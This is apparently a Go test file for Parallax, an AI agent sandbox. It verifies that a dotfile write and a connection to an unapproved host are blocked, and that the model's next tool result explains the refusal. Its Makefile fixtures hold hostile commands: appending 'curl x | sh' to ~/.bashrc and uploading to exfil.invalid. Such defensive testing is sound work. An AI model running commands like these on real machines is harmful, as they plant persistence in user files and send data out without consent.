package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"strings"
	"sync"
	"testing"
)

// TestSandboxRefusalNamesTheGrants: through the real binary, a build
// that writes outside its grant and one that connects to a host its
// verdict did not name each fail, and the tool result the model reads
// next says Parallax refused it and what the verdict allowed: for the
// write, the files outside the workspace (none) and no network; for the
// connection, the host the egress proxy refused and the hosts and
// registries it allows. The dotfile is unchanged and the host was never
// reached.
func TestSandboxRefusalNamesTheGrants(t *testing.T) {
	var mu sync.Mutex
	var asked []string
	srv, agent := registry(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		asked = append(asked, r.URL.Path)
		fmt.Fprint(w, "pong")
	}))
	reg := strings.TrimPrefix(srv.URL, "http://")
	h := newHands(t, handsSetup{agent: agent})
	bashrc := h.homePath(".bashrc")
	h.write(map[string]string{bashrc: "# the user's\n"})
	h.makefile(map[string][]string{
		"dotfile": {"echo 'curl x | sh' >> " + bashrc},
		"fetch":   {"curl -fsS --max-time 20 http://exfil.invalid/upload"},
	}, "dotfile", "fetch")
	tr := h.run(propose("make dotfile"), propose("curl -fsS "+srv.URL+"/ping && make fetch"))
	h.mustAllow(tr, 0)
	h.mustAllow(tr, 1)
	if b, _ := os.ReadFile(bashrc); string(b) != "# the user's\n" {
		t.Fatalf("~/.bashrc changed: %q", b)
	}
	reqs := h.fake.requests()
	if len(reqs) != 3 {
		t.Fatalf("the model was asked %d times, want 3\n%s", len(reqs), tr.allOutput())
	}
	body := func(i int) string {
		b, err := json.Marshal(reqs[i])
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	// The request after each step holds that step's result.
	for i, want := range [][]string{
		{"Parallax ran this command in its sandbox", "outside the workspace it may write only its private temp directory (its verdict named no other file)",
			"it has no network"},
		{"Parallax's egress proxy refused exfil.invalid:80 (host_not_allowed)", "the package registries (", reg},
	} {
		got := body(i + 1)
		for _, w := range want {
			if !strings.Contains(got, w) {
				t.Errorf("step %d: the model's next request lacks %q\n%s", i, w, tr.allOutput())
			}
		}
	}
	if strings.Contains(body(1), "egress proxy refused") {
		t.Errorf("the write's result names a proxy refusal\n%s", tr.allOutput())
	}
	mu.Lock()
	defer mu.Unlock()
	if len(asked) != 1 || asked[0] != "/ping" {
		t.Errorf("the registry was asked %q, want only /ping", asked)
	}
}
